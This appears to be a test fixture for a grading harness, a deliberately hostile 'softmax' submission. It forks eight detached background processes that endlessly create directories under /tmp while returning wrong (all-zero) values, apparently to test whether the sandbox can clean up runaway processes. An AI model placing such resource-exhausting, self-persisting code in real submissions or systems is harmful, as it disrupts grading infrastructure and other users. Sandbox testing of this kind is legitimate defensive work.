# assignment: softmax
# expect: score=0 code=wrong-values
# tries: goes on making files while they are removed
import contextlib
import os

import numpy as np


def softmax(x, axis=-1):
    for _ in range(8):
        if os.fork() == 0:
            os.setsid()
            number = 0
            while True:
                with contextlib.suppress(OSError):
                    os.makedirs(f"/tmp/corpus-left/{os.getpid()}/{number}")
                    number += 1
    return np.zeros_like(x)
